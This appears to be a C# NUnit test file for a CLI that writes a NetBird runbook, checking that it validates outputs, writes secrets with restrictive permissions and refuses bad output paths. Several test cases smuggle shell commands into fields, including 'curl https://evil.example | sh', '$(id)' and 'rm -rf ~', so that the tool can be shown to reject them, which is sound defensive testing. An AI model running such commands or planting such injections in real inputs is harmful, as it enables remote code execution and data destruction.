using System.Text.Json.Nodes;
using Boma.Infra.Cli;
using NUnit.Framework;
using Boma.Infra.Tests.Cli;

namespace Boma.Infra.Tests.Acceptance;

/// <summary>The runbook's strictness (validated outputs, safe --with-secrets writing; docs/netbird.md) and --out handling of every verb.</summary>
[TestFixture]
public sealed class RunbookAndOutTests
{
    private const string Key = "8C1E9D2A-4F6B-4E0C-9A7D-3B5F1C2E8A90";

    private string _dir = null!;

    [SetUp]
    public void SetUp() => _dir = Directory.CreateTempSubdirectory("boma-failclosed-").FullName;

    [TearDown]
    public void TearDown() => Directory.Delete(_dir, recursive: true);

    internal static JsonObject Outputs() => new()
    {
        ["managementUrl"] = "https://netbird.askari.example.org",
        ["dashboardUrl"] = "https://netbird.askari.example.org",
        ["askariIpv4"] = "203.0.113.7",
        ["askariIpv6"] = "2001:db8:1234::1",
        ["askariMeshIp"] = "100.90.12.1",
        ["roadWarriorSetupKey"] = Key,
        ["meshDnsDomain"] = "boma.example.org",
    };

    private (int Code, string Out, string Err) Run(string stdin, params string[] args)
    {
        using var output = new StringWriter();
        using var error = new StringWriter();
        using var input = new StringReader(stdin);
        var code = RunbookCommand.Run(args, input, stdinIsTerminal: false, output, error, _dir);
        return (code, output.ToString(), error.ToString());
    }

    [Test]
    public void Valid_outputs_write_the_runbook() =>
        Assert.That(Run(Outputs().ToJsonString(), "offsite", "--out", "rb.md").Code, Is.Zero);

    [TestCase("managementUrl", "https://netbird.askari.example.org; curl https://evil.example | sh")]
    [TestCase("managementUrl", "https://netbird.askari.example.org/$(id)")]
    [TestCase("managementUrl", "http://netbird.askari.example.org")]
    [TestCase("managementUrl", "https://kim@netbird.askari.example.org")]
    [TestCase("dashboardUrl", "https://netbird.askari.example.org/`reboot`")]
    [TestCase("dashboardUrl", "https://netbird.askari.example.org) | [x](https://evil.example")]
    [TestCase("askariIpv4", "203.0.113.7\nrm -rf ~")]
    [TestCase("askariIpv4", "010.0.113.7")]
    [TestCase("askariIpv4", "2001:db8::1")]
    [TestCase("askariIpv6", "fe80::1%eth0")]
    [TestCase("askariMeshIp", "203.0.113.9")]
    [TestCase("askariMeshIp", "100.90.12.1 | sh")]
    [TestCase("roadWarriorSetupKey", Key + "\nEOF\ncurl https://evil.example | sh\ncat <<'EOF'")]
    [TestCase("roadWarriorSetupKey", "A'B")]
    [TestCase("meshDnsDomain", "boma.example.org; id")]
    [TestCase("meshDnsDomain", "boma.example.org.")]
    public void Outputs_of_the_wrong_shape_are_refused_and_nothing_is_written(string name, string value)
    {
        var outputs = Outputs();
        outputs[name] = value;
        var (code, stdout, err) = Run(outputs.ToJsonString(), "offsite", "--out", "rb.md", "--with-secrets");
        Assert.Multiple(() =>
        {
            Assert.That(code, Is.EqualTo(2), err);
            Assert.That(err, Does.Contain($"`{name}`"));
            Assert.That(err.TrimEnd().Split('\n'), Has.Length.EqualTo(1));
            Assert.That(err, Does.Not.Contain("evil.example\n").And.Not.Contain(Key + "\n"), "the key is never echoed");
            Assert.That(stdout, Is.Empty);
            Assert.That(Directory.GetFileSystemEntries(_dir), Is.Empty, "nothing written");
        });
    }

    [Test]
    public void A_number_where_an_ip_belongs_is_refused()
    {
        var outputs = Outputs();
        outputs["askariIpv4"] = 3405803783;
        var (code, _, err) = Run(outputs.ToJsonString(), "offsite", "--out", "rb.md");
        Assert.That(code, Is.EqualTo(2));
        Assert.That(err, Does.Contain("`askariIpv4` is 3405803783, not text"));
    }

    [Test]
    public void Duplicate_output_names_are_refused()
    {
        var json = Outputs().ToJsonString().Replace("{", "{\"askariIpv4\":\"198.51.100.1\",", StringComparison.Ordinal);
        var (code, _, err) = Run(json, "offsite", "--out", "rb.md");
        Assert.That(code, Is.EqualTo(2), err);
        Assert.That(err, Does.Contain("not JSON"));
    }

    [Test]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public void With_secrets_writes_mode_0600_and_cleans_a_crashed_runs_temp_file()
    {
        var stale = Path.Combine(_dir, ".rb.md.boma-tmp");
        File.WriteAllText(stale, "a crashed run's copy of " + Key);
        var (code, _, err) = Run(Outputs().ToJsonString(), "offsite", "--out", "rb.md", "--with-secrets");
        Assert.That(code, Is.Zero, err);
        Assert.Multiple(() =>
        {
            Assert.That(File.GetUnixFileMode(Path.Combine(_dir, "rb.md")), Is.EqualTo(UnixFileMode.UserRead | UnixFileMode.UserWrite));
            Assert.That(File.ReadAllText(Path.Combine(_dir, "rb.md")), Does.Contain(Key));
            Assert.That(File.Exists(stale), Is.False);
            Assert.That(Directory.GetFiles(_dir), Is.EqualTo(new[] { Path.Combine(_dir, "rb.md") }));
        });
    }

    [Test]
    public void A_symlinked_directory_into_a_git_work_tree_is_seen_through()
    {
        var repo = Directory.CreateDirectory(Path.Combine(_dir, "repo")).FullName;
        Directory.CreateDirectory(Path.Combine(repo, ".git"));
        Directory.CreateDirectory(Path.Combine(repo, "docs"));
        var outside = Directory.CreateDirectory(Path.Combine(_dir, "outside")).FullName;
        Directory.CreateSymbolicLink(Path.Combine(outside, "link"), Path.Combine(repo, "docs"));

        var (code, _, err) = Run(Outputs().ToJsonString(), "offsite", "--out", Path.Combine(outside, "link", "rb.md"), "--with-secrets");
        Assert.That(code, Is.EqualTo(2));
        Assert.That(err, Does.Contain("inside the git work tree " + repo));
        Assert.That(Directory.GetFiles(Path.Combine(repo, "docs")), Is.Empty);
    }

    [Test]
    public void Runbook_out_that_is_a_directory_or_under_a_file_is_one_line()
    {
        File.WriteAllText(Path.Combine(_dir, "afile"), "x");
        foreach (var target in new[] { _dir, Path.Combine(_dir, "afile", "rb.md") })
        {
            var (code, _, err) = Run(Outputs().ToJsonString(), "offsite", "--out", target);
            Assert.That(code, Is.EqualTo(2), err);
            Assert.That(err.TrimEnd().Split('\n'), Has.Length.EqualTo(1), err);
            Assert.That(err, Does.StartWith("runbook: "));
        }
    }

    [Test]
    public void Guard_summary_into_a_directory_is_one_line()
    {
        var run = GuardRun.Of(TestPaths.GuardData("compliant.json"), "--summary", _dir);
        Assert.That(run.ExitCode, Is.EqualTo(GuardCommand.BadInput));
        Assert.That(run.Stderr.TrimEnd().Split('\n'), Has.Length.EqualTo(1), run.Stderr);
    }

    [Test]
    public async Task Plan_out_that_is_a_file_or_under_a_file_is_one_line()
    {
        var file = Path.Combine(_dir, "afile");
        File.WriteAllText(file, "x");
        foreach (var target in new[] { file, Path.Combine(file, "hosts") })
        {
            var (exit, stdout, stderr) = await PlanRunner.RunAsync(PlanRunner.RepoRoot, "plan", "offsite", "--out", target);
            Assert.That(exit, Is.EqualTo(1), stderr);
            Assert.That(stdout, Is.Empty);
            Assert.That(stderr.TrimEnd().Split('\n'), Has.Length.EqualTo(1), stderr);
            Assert.That(stderr, Does.Contain("--out").And.Contain("is a file"));
        }
    }

    // ---- item 6: every verb, wrong-kind and unwritable targets ---------------------------------------------------

    /// <summary>One run of a verb with its output option pointed at <paramref name="target"/>: (exit, stderr).</summary>
    private async Task<(int Exit, string Stderr)> RunVerbAsync(string verb, string target)
    {
        switch (verb)
        {
            case "plan":
            {
                var (exit, stdout, stderr) = await PlanRunner.RunAsync(PlanRunner.RepoRoot, "plan", "offsite", "--out", target);
                Assert.That(stdout, Does.Not.Contain("Host files written"), "nothing was written");
                return (exit, stderr);
            }

            case "runbook":
            {
                var (code, _, err) = Run(Outputs().ToJsonString(), "offsite", "--out", target);
                return (code, err);
            }

            default:
            {
                var run = GuardRun.Of(TestPaths.GuardData("compliant.json"), "--summary", target);
                return (run.ExitCode, run.Stderr);
            }
        }
    }

    private static void AssertOneLineRefusal(string verb, string target, (int Exit, string Stderr) run)
    {
        Assert.Multiple(() =>
        {
            Assert.That(run.Exit, Is.Not.Zero.And.Not.EqualTo(OfflineVerbs.InternalError), $"{verb} {target}: {run.Stderr}");
            Assert.That(run.Stderr.TrimEnd().Split('\n'), Has.Length.EqualTo(1), $"{verb} {target}: {run.Stderr}");
            Assert.That(run.Stderr, Does.Not.Contain("internal error").And.Not.Contain("   at "), $"{verb} {target}");
        });
    }

    [TestCase("plan")]
    [TestCase("runbook")]
    [TestCase("guard")]
    public async Task A_device_as_the_target_is_refused_and_left_alone(string verb)
    {
        // boma may run as root: writing by rename onto /dev/null would replace the device node with a file.
        var target = verb == "plan" ? "/dev/null/hosts" : "/dev/null";
        var run = await RunVerbAsync(verb, target);
        AssertOneLineRefusal(verb, target, run);
        Assert.That(run.Stderr, Does.Contain("device, pipe or socket"));
        Assert.That(File.GetAttributes("/dev/null").HasFlag(FileAttributes.Directory), Is.False);
        Assert.That(Boma.Infra.Cli.OutPath.KindOf("/dev/null", followFinalLink: true), Is.EqualTo(Boma.Infra.Cli.OutPath.Kind.Other), "/dev/null is still a device");
    }

    [TestCase("plan")]
    [TestCase("runbook")]
    [TestCase("guard")]
    public async Task A_named_pipe_as_the_target_is_refused_without_hanging(string verb)
    {
        var fifo = Path.Combine(_dir, "pipe");
        var made = Boma.Infra.Tests.HostFiles.HostTool.Run(Boma.Infra.Tests.HostFiles.HostTool.Require("mkfifo", "coreutils"), [fifo]);
        Assert.That(made.ExitCode, Is.Zero, made.ToString());
        var task = RunVerbAsync(verb, fifo);
        Assert.That(await Task.WhenAny(task, Task.Delay(TimeSpan.FromSeconds(20))), Is.SameAs(task), $"{verb} hung on a pipe");
        var run = await task;
        AssertOneLineRefusal(verb, fifo, run);
        Assert.That(run.Stderr, Does.Contain("device, pipe or socket"));
        Assert.That(Boma.Infra.Cli.OutPath.KindOf(fifo, followFinalLink: true), Is.EqualTo(Boma.Infra.Cli.OutPath.Kind.Other), "the pipe is still a pipe");
    }

    [TestCase("plan")]
    [TestCase("runbook")]
    [TestCase("guard")]
    public async Task An_unwritable_target_is_one_line(string verb)
    {
        // Nothing can be created under /proc, not even by root: unwritable wherever the tests run.
        var target = verb == "plan" ? "/proc/boma-no-such-dir/hosts" : "/proc/boma-no-such-dir/out.md";
        var run = await RunVerbAsync(verb, target);
        AssertOneLineRefusal(verb, target, run);
        Assert.That(Directory.Exists("/proc/boma-no-such-dir"), Is.False);
    }

    [TestCase("plan")]
    [TestCase("runbook")]
    [TestCase("guard")]
    public async Task An_empty_or_nul_target_is_one_line(string verb)
    {
        foreach (var target in new[] { "", "out\0.md" })
        {
            var run = await RunVerbAsync(verb, target);
            if (verb == "guard" && target.Length == 0)
            {
                // guard's usage errors are the reason line, then the usage (docs/guard.md, exit 64).
                Assert.That(run.Exit, Is.EqualTo(GuardCommand.UsageError), run.Stderr);
                Assert.That(run.Stderr.Split('\n')[0], Is.EqualTo("guard: --summary needs a value"));
                continue;
            }

            AssertOneLineRefusal(verb, target, run);
        }

        Assert.That(Directory.GetFileSystemEntries(_dir), Is.Empty, "nothing was written");
    }

    [Test]
    public void The_kind_check_sees_files_directories_and_links()
    {
        var file = Path.Combine(_dir, "f");
        File.WriteAllText(file, "x");
        var link = Path.Combine(_dir, "l");
        File.CreateSymbolicLink(link, "/dev/null");
        Assert.Multiple(() =>
        {
            Assert.That(Boma.Infra.Cli.OutPath.KindOf(file, followFinalLink: true), Is.EqualTo(Boma.Infra.Cli.OutPath.Kind.File));
            Assert.That(Boma.Infra.Cli.OutPath.KindOf(_dir, followFinalLink: true), Is.EqualTo(Boma.Infra.Cli.OutPath.Kind.Directory));
            Assert.That(Boma.Infra.Cli.OutPath.KindOf(Path.Combine(_dir, "none"), followFinalLink: true), Is.Null);
            Assert.That(Boma.Infra.Cli.OutPath.KindOf(link, followFinalLink: true), Is.EqualTo(Boma.Infra.Cli.OutPath.Kind.Other), "followed to the device");
            Assert.That(Boma.Infra.Cli.OutPath.FileProblem(Path.Combine(file, "x"), followFinalLink: true), Does.Contain("is a file"));
            Assert.That(Boma.Infra.Cli.OutPath.DirectoryProblem(file), Does.Contain("is a file"));
        });
    }
}
